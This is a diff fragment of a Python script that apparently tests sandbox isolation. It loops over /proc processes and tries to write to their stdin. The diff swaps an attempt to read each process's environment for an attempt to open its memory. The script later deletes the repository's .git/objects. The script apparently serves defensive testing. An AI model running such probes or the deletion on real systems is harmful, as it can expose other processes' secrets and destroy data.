@@ -178,8 +178,8 @@ for process in glob.glob('/proc/[0-9]*'):
     number = process.rsplit('/')[-1]
     if number != own:
         attempt('fds', lambda: open(process + '/fd/0', 'w'))
-        # The kernel's own have none.
-        attempt('environ', lambda: open(process + '/environ', 'rb').read() or None)
+        # Not the environment: root, as which this may run, reads it with a capability that no sandbox has.
+        attempt('memory', lambda: open(process + '/mem', 'rb'))
 open('tried', 'w').write(' '.join(sorted(set(tried))))
 open('.git/shallow', 'w').write(subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode())
 shutil.rmtree('.git/objects')
